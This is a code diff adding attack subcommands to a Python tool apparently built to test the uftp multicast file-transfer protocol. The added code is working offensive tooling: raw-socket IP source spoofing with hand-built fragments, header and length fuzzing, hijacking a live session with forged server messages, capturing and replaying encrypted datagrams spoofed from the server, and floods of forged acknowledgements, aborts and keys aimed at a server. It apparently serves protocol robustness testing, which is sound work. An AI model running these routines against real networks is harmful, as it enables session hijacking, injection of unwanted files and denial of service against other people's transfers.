@@ -462,6 +462,356 @@ def cmd_inject(a):
     return 0
 
 
+
+# ---------------------------------------------------------------- hostile-wire additions
+def spoof_sock():
+    """raw IPv4 socket to send datagrams with any source address:port"""
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+
+def spoof_send(rs, src, dst, data):
+    """one UDP datagram from src=(ip,port) to dst=(ip,port), IPv4 only, UDP checksum 0"""
+    ulen = 8 + len(data)
+    dgram = struct.pack(">HHHH", src[1], dst[1], ulen, 0) + data
+    ident = random.randrange(65536)
+    step = 1480  # fragments of a 1500-byte MTU (raw sockets are not fragmented for us)
+    for off in range(0, len(dgram), step):
+        frag = dgram[off:off + step]
+        more = 0x2000 if off + step < len(dgram) else 0
+        iph = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(frag), ident, more | (off // 8), 1, 17, 0,
+                          socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
+        c = sum(struct.unpack(">10H", iph))
+        while c >> 16:
+            c = (c & 0xFFFF) + (c >> 16)
+        iph = iph[:10] + struct.pack(">H", ~c & 0xFFFF) + iph[12:]
+        rs.sendto(iph + frag, (dst[0], 0))
+
+
+def register_body(clients=(), keyinfo=b""):
+    s, us = now_ts()
+    body = struct.pack(">BBHII", REGISTER, 0, len(keyinfo), s, us) + os.urandom(32) + pad4(keyinfo)
+    return bytes([REGISTER, len(body) // 4]) + body[2:] + ids(clients)
+
+
+def client_key_body(key=b"", sig=b""):
+    k, g = key, sig
+    body = struct.pack(">BBHHH", CLIENT_KEY, (8 + len(k) + len(g) + 3) // 4, 0, len(k), len(g)) + k + g
+    return pad4(body)
+
+
+def keyinfo_ack_body(verify):
+    return struct.pack(">BBH", KEYINFO_ACK, 4, 0) + verify[:12].ljust(12, b"\0")
+
+
+def fileinfo_ack_body(file_id, clients=(), flags=0):
+    s, us = now_ts()
+    return struct.pack(">BBHB3xII", FILEINFO_ACK, 4, file_id, flags, s, us) + ids(clients)
+
+
+def status_body(file_id, section, naks):
+    return struct.pack(">BBHHH", STATUS, 2, file_id, section, 0) + naks
+
+
+def complete_body(file_id, status=0, clients=()):
+    return struct.pack(">BBHB3x", COMPLETE, 2, file_id, status) + ids(clients)
+
+
+def cmd_wire(a):
+    """header/length/size attacks with the live session's group and server ID
+    (from the attacker's address, or spoofed from the server's with --spoof)"""
+    host, port = hostport(a.to)
+    s = mcast_sock(a.src) if a.src else socket.socket(family(host), socket.SOCK_DGRAM)
+    rs = spoof_sock() if a.spoof else None
+    spoof = hostport(a.spoof) if a.spoof else None
+    g, sid, cid = a.group, a.src_id, a.client_id
+    cnt = {}
+
+    def tx(kind, d):
+        d = bytes(d)
+        if rs:
+            if len(d) > 65507 - 28:
+                d = d[:65507 - 28]
+            spoof_send(rs, spoof, (host, port), d)
+        else:
+            s.sendto(d, (host, port))
+        cnt[kind] = cnt.get(kind, 0) + 1
+        if sum(cnt.values()) % 40 == 0:
+            time.sleep(0.004)
+
+    good = [fileinfo_body(1, 0, b"hello.txt", size=5, clients=[cid]),
+            fileseg_body(1, 0, 0, b"w" * 100), done_body(1, 0, [cid]),
+            done_conf_body([cid]), reg_conf_body([cid]), abort_body("wire", host=cid),
+            keyinfo_body([cid])]
+    if a.safe:
+        # spoofed from the server: nothing a real server could send (an
+        # unused file ID; no FILEINFO, DONE_CONF, ABORT, KEYINFO)
+        good = [fileseg_body(0xFFFE, 0, 0, b"w" * 100), done_body(0xFFFE, 0, [cid])]
+    # every version byte but 0x40
+    for v in range(256):
+        if v == VERSION:
+            continue
+        for m in good:
+            tx("version", bytes([v]) + header(m[0], v, sid, g)[1:] + m)
+    # unknown function codes (header and body agree, and disagree)
+    for f in [0] + list(range(20, 256)):
+        tx("func", header(f, f, sid, g) + bytes([f, 2]) + os.urandom(6))
+        tx("func", header(FILESEG, f, sid, g) + bytes([f]) + fileseg_body(0xFFFE, 0, 0, b"x" * 8)[1:])
+        tx("func", header(f, f, sid, g) + fileseg_body(0xFFFE, 0, 0, b"x" * 8))
+    # header length fields: 0, 1, one short, every value past the datagram
+    for m in good:
+        for hl in (0, 1, max(0, m[1] - 1), m[1] + 1, 0x40, 0xFF):
+            b = bytearray(m)
+            b[1] = hl
+            tx("hlen", header(m[0], 0, sid, g) + b)
+    if a.safe:
+        good = []
+    # extensions: FILEINFO with an extension of length 0, 1, and past the header
+    base = fileinfo_body(1, 0, b"ext.bin", size=5, clients=[cid])
+    for et, el in ((1, 0), (2, 0xFF), (3, 1), (0x7F, 2), (0xFF, 0xFF)) if not a.safe else ():
+        hw = base[1] + 1
+        b = bytearray(base[:4 * base[1]] + bytes([et, el, 0, 0]) + base[4 * base[1]:])
+        b[1] = hw
+        tx("ext", header(FILEINFO, 0, sid, g) + b)
+    # name and link lengths: 0 with a name, one word short, past the header
+    for nl, ll in ((0, 0), (1, 0), (0xFF, 0), (0, 0xFF), (0x80, 0x80), (2, 3)) if not a.safe else ():
+        tx("namelen", header(FILEINFO, 0, sid, g) + fileinfo_body(2, 2, b"lnk-wire", b"target",
+                                                                   clients=[cid], nlen=nl, llen=ll))
+    # oversized datagrams, up to the UDP maximum
+    for size in (1473, 1500, 4096, 9000, 16384, 32768, 65000, 65507):
+        pay = size - 16
+        tx("oversize", header(FILESEG, size, sid, g) + fileseg_body(1, 0, 0, os.urandom(max(0, pay - 8))))
+        tx("oversize", header(ENCRYPTED, size, sid, g) + encrypted_body(os.urandom(max(0, pay - 12))))
+        if not a.safe:
+            tx("oversize", header(FILEINFO, size, sid, g) + fileinfo_body(3, 0, b"big.bin", size=5, clients=[cid])
+               + os.urandom(max(0, pay - 64)))
+    # FILESEG / DONE past the end of any file
+    for sec, blk in ((0xFFFF, 0), (0, 0xFFFF), (0xFFFF, 0xFFFF), (1, 0), (0x8000, 0x8000)):
+        for fid in range(0, 9):
+            tx("pastend", header(FILESEG, 0, sid, g) + fileseg_body(fid, sec, blk, b"\xee" * BLOCK))
+            tx("pastend", header(DONE, 0, sid, g) + done_body(fid, sec, [cid]))
+    # forged KEYINFOs
+    for k in range(0 if a.safe else 20):
+        tx("keyinfo", header(KEYINFO, k, sid, g) + keyinfo_body([cid, 0xDEAD0000 + k]))
+    print("WIRE sent %s to %s:%d%s" % (" ".join("%s=%d" % kv for kv in sorted(cnt.items())), host, port,
+                                      " spoofed from %s:%d" % spoof if spoof else ""), flush=True)
+    return 0
+
+
+def cmd_edge(a):
+    """rogue session: files the receiver cannot hold, block size edge cases,
+    data past the end; a last regular file must arrive exact"""
+    random.seed(a.seed)
+    out = []
+    # 1. block sizes in ANNOUNCE
+    for bs in a.bad_blocksize:
+        global BLOCK
+        saved = BLOCK
+        BLOCK = bs
+        r = Rogue(a)
+        ok = r.start()
+        BLOCK = saved
+        res = "registered" if ok else "no-register"
+        if ok:
+            ent = (0, b"bs-%d.bin" % bs, b"", b"x" * 1000000)
+            r.file_id += 1
+            body = fileinfo_body(r.file_id, 0, ent[1], size=len(ent[3]), clients=[r.target])
+            res += ",fileinfo:" + r.offer_raw(body)
+            r.finish()
+        print("RESULT blocksize=%d %s" % (bs, res), flush=True)
+    r = Rogue(a)
+    if not r.start():
+        print("ERROR target never registered", flush=True)
+        return 3
+    print("SESSION group=0x%08X" % r.group, flush=True)
+    # 2. sizes beyond the disk / beyond 65536 sections
+    for size in a.huge:
+        r.file_id += 1
+        body = fileinfo_body(r.file_id, 0, b"huge-%d.bin" % size, size=size, clients=[r.target])
+        res = r.offer_raw(body)
+        print("RESULT size=%d %s" % (size, res), flush=True)
+        if res.startswith("aborted") or res == "no-reply":
+            if not r.start():
+                print("ERROR target did not register again", flush=True)
+                return 3
+            print("SESSION group=0x%08X (new)" % r.group, flush=True)
+    # 3. a real file with FILESEG/DONE past its end before its data
+    data = open(a.edge_file, "rb").read()
+    r.file_id += 1
+    fid = r.file_id
+    body = fileinfo_body(fid, 0, a.edge_name.encode(), size=len(data), clients=[r.target])
+    res = r.offer_raw(body, push=False)
+    print("RESULT edge-file fileinfo %s" % res, flush=True)
+    nblk = (len(data) + BLOCK - 1) // BLOCK
+    for sec, blk, ln in ((1, 0, BLOCK), (0, nblk, BLOCK), (0, nblk + 1, 5), (0xFFFF, 0xFFFF, BLOCK),
+                         (0, 0xFFFF, BLOCK), (0, nblk - 1, BLOCK), (0, 0, BLOCK + 1), (0, 0, 1)):
+        r.send(fileseg_body(fid, sec, blk, b"\xee" * ln), r.priv())
+    for sec in (1, 2, 0xFFFF):
+        r.send(done_body(fid, sec, [r.target]), r.priv())
+    time.sleep(0.3)
+    while r.recv(0.05):
+        pass
+    print("RESULT edge-file data %s" % r.push(fid, data), flush=True)
+    print("END %s" % ("done" if r.finish() else "no final COMPLETE"), flush=True)
+    return 0
+
+
+def _offer_raw(self, body, push=True):
+    fid = struct.unpack(">H", body[2:4])[0]
+    for _ in range(4):
+        self.send(body, self.priv())
+        end = time.time() + 0.5
+        while time.time() < end:
+            r = self.recv(end - time.time())
+            if not r:
+                break
+            func, rb = r
+            if func == FILEINFO_ACK and struct.unpack(">H", rb[2:4])[0] == fid:
+                return "accepted"
+            if func == COMPLETE and struct.unpack(">H", rb[2:4])[0] == fid:
+                return "rejected" if rb[4] == 3 else "complete(status %d)" % rb[4]
+            if func == ABORT:
+                return "aborted:" + abort_msg(rb)
+    return "no-reply"
+
+
+Rogue.offer_raw = _offer_raw
+
+
+def cmd_hijack(a):
+    """a second server reusing a live group ID: its own server ID from its own
+    address, and the live server's ID from another address"""
+    s = mcast_sock(a.src)
+    pub, priv = (a.pub, a.port), (a.priv, a.port)
+    cid = a.client_id
+    n = 0
+    end = time.time() + a.duration
+    while time.time() < end:
+        for sid in (a.my_id, a.server_id):
+            for inst in (0, 1):
+                s.sendto(header(ANNOUNCE, n, sid, a.group, inst) + announce_body(a.pub, a.priv), pub)
+                s.sendto(header(REG_CONF, n, sid, a.group, inst) + reg_conf_body([cid]), priv)
+                s.sendto(header(FILEINFO, n, sid, a.group, inst) + fileinfo_body(
+                    1 + n % 7, 0, b"hijack-%d.bin" % n, size=2000, clients=[cid]), priv)
+                s.sendto(header(FILESEG, n, sid, a.group, inst) + fileseg_body(1 + n % 7, 0, 0, b"\xee" * BLOCK), priv)
+                s.sendto(header(DONE, n, sid, a.group, inst) + done_body(1 + n % 7, 0, [cid]), priv)
+                s.sendto(header(DONE_CONF, n, sid, a.group, inst) + done_conf_body([cid]), priv)
+                s.sendto(header(ABORT, n, sid, a.group, inst) + abort_body("hijack", host=cid), priv)
+                n += 7
+        time.sleep(0.05)
+    print("HIJACK sent %d datagrams for group 0x%08X (server IDs 0x%08X, 0x%08X)" % (
+        n, a.group, a.my_id, a.server_id), flush=True)
+    return 0
+
+
+def cmd_replay(a):
+    """capture the ENCRYPTED datagrams of a live session, then re-send them
+    spoofed from the server's address (verbatim, and with a flipped byte in
+    the signature, the ciphertext and the IV counter)"""
+    srv = hostport(a.server)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("", a.port))
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(a.priv) + socket.inet_aton(a.src))
+    caught = []
+    end = time.time() + a.capture
+    while time.time() < end and len(caught) < a.max:
+        r, _, _ = select.select([s], [], [], end - time.time())
+        if not r:
+            break
+        d, addr = s.recvfrom(65536)
+        p = parse(d)
+        if p and p[0] == ENCRYPTED and p[2] == a.group and addr[0] == srv[0]:
+            caught.append(d)
+    print("REPLAY captured %d ENCRYPTED datagrams" % len(caught), flush=True)
+    if not caught:
+        return 1
+    time.sleep(a.delay)
+    rs = spoof_sock()
+    dst = hostport(a.to)
+    sent = 0
+    for rnd in range(a.rounds if a.mode in ("both", "verbatim") else 0):
+        for d in caught:
+            spoof_send(rs, srv, dst, d)
+            sent += 1
+            if sent % 20 == 0:
+                time.sleep(0.003)
+    print("REPLAY re-sent %d verbatim" % sent, flush=True)
+    mut = 0
+    for d in caught[: a.max] if a.mode in ("both", "altered") else []:
+        siglen = struct.unpack(">H", d[24:26])[0]
+        for pos in ([28] if siglen else []) + [28 + siglen + 3, len(d) - 1, 23, 27]:
+            b = bytearray(d)
+            if pos < len(b):
+                b[pos] ^= 0x5A
+                spoof_send(rs, srv, dst, bytes(b))
+                mut += 1
+        if mut % 20 == 0:
+            time.sleep(0.003)
+    print("REPLAY sent %d altered (signature, ciphertext, last byte, IV counter, lengths)" % mut, flush=True)
+    return 0
+
+
+def cmd_atserver(a):
+    """attacks at a uftp server: messages from unknown client IDs, bad NAKs
+    under the real client's ID, ABORT from a stranger naming the client,
+    forged KEYINFO_ACK and CLIENT_KEY, garbage and truncations"""
+    host, port = hostport(a.to)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((a.src, 0))
+    g, cid = a.group, a.client_id
+    cnt = {}
+
+    def tx(kind, sid, body, raw=None):
+        d = raw if raw is not None else header(body[0], 0, sid, g) + body
+        s.sendto(bytes(d), (host, port))
+        cnt[kind] = cnt.get(kind, 0) + 1
+        if sum(cnt.values()) % 40 == 0:
+            time.sleep(0.004)
+
+    end = time.time() + a.duration
+    rnd = 0
+    while time.time() < end:
+        for k in range(20):
+            u = 0x0B000000 + rnd * 20 + k
+            tx("unknown", u, register_body())
+            tx("unknown", u, fileinfo_ack_body(1 + k % 4))
+            tx("unknown", u, status_body(1 + k % 4, 0, b"\xff" * 64))
+            tx("unknown", u, complete_body(1 + k % 4))
+            tx("unknown", u, complete_body(0))
+            tx("unknown", u, keyinfo_ack_body(os.urandom(12)))
+            tx("unknown", u, None, header(ENCRYPTED, 0, u, g) + encrypted_body(os.urandom(64)))
+        # NAK maps past the section / for sections that do not exist, as the real client
+        for fid in range(1, 6):
+            for sec in (0, 1, 2, 100, 0x7FFF, 0xFFFF):
+                tx("naks", cid, status_body(fid, sec, b"\x00" * 2 + b"\xff" * 1400))
+                tx("naks", cid, status_body(fid, sec, b""))
+                tx("naks", cid, status_body(fid, sec, b"\x00" * 1300 + b"\xff" * 5000))
+        # ABORT from a stranger naming the client
+        for k in range(3):
+            tx("abort", a.stranger, abort_body("stranger abort", host=cid))
+        # forged KEYINFO_ACK (plaintext, and ENCRYPTED garbage) and CLIENT_KEY under the client's ID
+        tx("keyinfo_ack", cid, keyinfo_ack_body(os.urandom(12)))
+        tx("keyinfo_ack", cid, None, header(ENCRYPTED, 0, cid, g) + encrypted_body(
+            keyinfo_ack_body(os.urandom(12)) + os.urandom(16), counter=rnd + 1, sig=os.urandom(a.siglen)))
+        tx("client_key", cid, client_key_body(os.urandom(a.keylen), os.urandom(a.siglen)))
+        tx("client_key", a.stranger, client_key_body(os.urandom(a.keylen), os.urandom(a.siglen)))
+        tx("client_key", a.stranger, client_key_body(b"", b""))
+        tx("register", a.stranger, register_body(keyinfo=os.urandom(a.keylen)))
+        tx("register", cid, register_body(keyinfo=os.urandom(a.keylen)))
+        # truncations and garbage
+        for m in (register_body(), status_body(1, 0, b"\xff" * 8), complete_body(1), fileinfo_ack_body(1),
+                  keyinfo_ack_body(b"x" * 12), client_key_body(b"k" * 40, b"s" * 40), abort_body("t", host=cid)):
+            d = header(m[0], 0, cid, g) + m
+            for n in range(len(d)):
+                tx("trunc", cid, None, d[:n])
+        for _ in range(50):
+            tx("garbage", cid, None, header(random.randrange(256), 0, cid, g) + os.urandom(random.randrange(200)))
+        rnd += 1
+        time.sleep(0.2)
+    print("ATSERVER sent %s to %s:%d" % (" ".join("%s=%d" % kv for kv in sorted(cnt.items())), host, port), flush=True)
+    return 0
+
+
 def hexint(s):
     return int(s, 0)
 
@@ -510,9 +860,62 @@ def main():
     i.add_argument("--file-id", type=int, default=1)
     i.add_argument("--blocks", type=int, default=64)
     i.add_argument("--rounds", type=int, default=5)
+    w = sub.add_parser("wire")
+    w.add_argument("--to", required=True)
+    w.add_argument("--src")
+    w.add_argument("--spoof", help="IP:PORT to send from (raw socket, IPv4)")
+    w.add_argument("--safe", action="store_true", help="only what no real server sends (for --spoof)")
+    w.add_argument("--group", type=hexint, required=True)
+    w.add_argument("--src-id", type=hexint, required=True)
+    w.add_argument("--client-id", type=hexint, required=True)
+    e = sub.add_parser("edge")
+    e.add_argument("--src", required=True)
+    e.add_argument("--target-id", type=hexint, required=True)
+    e.add_argument("--my-id", type=hexint)
+    e.add_argument("--pub", default="230.4.4.1")
+    e.add_argument("--priv", default="230.5.5.202")
+    e.add_argument("--port", type=int, default=1044)
+    e.add_argument("--announces", type=int, default=6)
+    e.add_argument("--seed", type=int, default=2)
+    e.add_argument("--bad-blocksize", type=int, action="append", default=[])
+    e.add_argument("--huge", type=int, action="append", default=[])
+    e.add_argument("--edge-name", default="edge.bin")
+    e.add_argument("--edge-file", required=True)
+    hj = sub.add_parser("hijack")
+    hj.add_argument("--src", required=True)
+    hj.add_argument("--group", type=hexint, required=True)
+    hj.add_argument("--server-id", type=hexint, required=True)
+    hj.add_argument("--my-id", type=hexint, required=True)
+    hj.add_argument("--client-id", type=hexint, required=True)
+    hj.add_argument("--pub", default="230.4.4.1")
+    hj.add_argument("--priv", required=True)
+    hj.add_argument("--port", type=int, default=1044)
+    hj.add_argument("--duration", type=float, default=3)
+    rp = sub.add_parser("replay")
+    rp.add_argument("--src", required=True)
+    rp.add_argument("--to", required=True)
+    rp.add_argument("--server", required=True, help="IP:PORT of the live server (spoofed source)")
+    rp.add_argument("--group", type=hexint, required=True)
+    rp.add_argument("--priv", required=True)
+    rp.add_argument("--port", type=int, default=1044)
+    rp.add_argument("--capture", type=float, default=3)
+    rp.add_argument("--max", type=int, default=400)
+    rp.add_argument("--delay", type=float, default=2)
+    rp.add_argument("--rounds", type=int, default=2)
+    rp.add_argument("--mode", choices=("both", "verbatim", "altered"), default="both")
+    at = sub.add_parser("atserver")
+    at.add_argument("--to", required=True)
+    at.add_argument("--src", required=True)
+    at.add_argument("--group", type=hexint, required=True)
+    at.add_argument("--client-id", type=hexint, required=True)
+    at.add_argument("--stranger", type=hexint, default=0x0BADBAD0)
+    at.add_argument("--duration", type=float, default=3)
+    at.add_argument("--keylen", type=int, default=140)
+    at.add_argument("--siglen", type=int, default=128)
     a = ap.parse_args()
     return {"rogue": cmd_rogue, "sniff": cmd_sniff, "junk": cmd_junk, "abort": cmd_abort,
-            "inject": cmd_inject}[a.cmd](a)
+            "inject": cmd_inject, "wire": cmd_wire, "edge": cmd_edge, "hijack": cmd_hijack,
+            "replay": cmd_replay, "atserver": cmd_atserver}[a.cmd](a)
 
 
 if __name__ == "__main__":
